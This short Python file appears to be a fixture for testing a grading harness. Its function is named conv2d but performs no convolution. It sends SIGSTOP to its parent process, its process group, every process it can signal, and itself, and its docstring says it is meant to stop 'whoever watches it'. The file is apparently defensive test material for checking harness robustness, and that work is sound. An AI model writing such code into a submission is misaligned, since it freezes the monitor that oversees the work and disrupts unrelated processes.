"""Stops its own process, and would stop whoever watches it."""
# ruff: noqa

OUTCOME = ("limit", "wrong")

import os
import signal


def conv2d(x, weight, bias=None, stride=(1, 1), padding=(0, 0)):
    for pid in (os.getppid(), 0, -1, os.getpid()):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGSTOP)
    return x
